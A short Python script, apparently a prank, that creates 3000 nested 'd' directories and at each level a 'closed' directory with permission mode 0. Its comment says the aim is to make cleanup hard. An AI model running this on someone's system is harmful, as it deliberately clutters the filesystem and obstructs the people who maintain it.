# Folders so deep that whoever tidies up gets lost in them; some are closed.
# %%
import os

for number in range(3000):
    os.mkdir("d")
    os.mkdir("closed", 0)
    os.chdir("d")
